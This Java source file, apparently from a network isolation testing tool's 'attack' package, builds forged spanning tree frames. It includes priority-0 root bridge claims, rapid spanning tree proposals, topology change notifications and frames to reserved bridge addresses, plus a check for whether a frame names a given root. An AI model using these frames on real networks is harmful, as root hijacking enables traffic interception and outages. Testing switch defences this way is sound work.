package io.isolane.tools.attack.packet;

import static io.isolane.tools.attack.packet.Octets.hex;
import static io.isolane.tools.attack.packet.Octets.join;
import static io.isolane.tools.attack.packet.Octets.mac;

import java.util.Arrays;

/** What bridges say to each other. Stateless. */
public final class ControlFrame {
    /** The first of the sixteen addresses that no bridge forwards (IEEE 802.1Q, table 8-1), that of spanning tree. */
    public static final long BRIDGE_GROUP = 0x0180_c200_0000L;

    /** How many of them there are. */
    public static final int RESERVED = 16;

    private static final int CONTENT = 64;
    private static final int ROOT = 22;
    private static final int LLC = 14;
    private static final byte SPANNING_TREE = 0x42;

    /** Port, message age, maximum age, hello time, forward delay: the usual ones. */
    private static final byte[] TIMES = hex("8001 0000 1400 0200 0f00");

    private ControlFrame() {}

    /** A spanning tree configuration message (802.1D-1998, 9.3.1) of a bridge of priority 0, which is better than every other root. */
    public static CraftedFrame rootClaim(long source) {
        return CraftedFrame.llc(
                BRIDGE_GROUP,
                source,
                join(hex("424203 0000 00 00 01"), identity(source), hex("00000000"), identity(source), TIMES));
    }

    /** The same of rapid spanning tree (802.1D-2004, 9.3.3), proposing to be designated. */
    public static CraftedFrame rapidRootClaim(long source) {
        return CraftedFrame.llc(
                BRIDGE_GROUP,
                source,
                join(
                        hex("424203 0000 02 02 0e"),
                        identity(source),
                        hex("00000000"),
                        identity(source),
                        TIMES,
                        new byte[1]));
    }

    /** A topology change notification (802.1D-1998, 9.3.2). */
    public static CraftedFrame topologyChange(long source) {
        return CraftedFrame.llc(BRIDGE_GROUP, source, hex("424203 0000 00 80"));
    }

    /** A frame to one of the sixteen addresses; {@code type} is the EtherType of what is usually sent to it. */
    public static CraftedFrame reserved(int number, long source, int type) {
        return CraftedFrame.of(BRIDGE_GROUP + number, source, type, new byte[CONTENT]);
    }

    /** True if the frame is a spanning tree message that calls {@code root} the root. */
    public static boolean namesRoot(byte[] frame, long root) {
        byte[] identity = identity(root);
        return frame.length >= ROOT + identity.length
                && frame[LLC] == SPANNING_TREE
                && Arrays.equals(frame, ROOT, ROOT + identity.length, identity, 0, identity.length);
    }

    private static byte[] identity(long mac) {
        return join(new byte[2], mac(mac));
    }
}
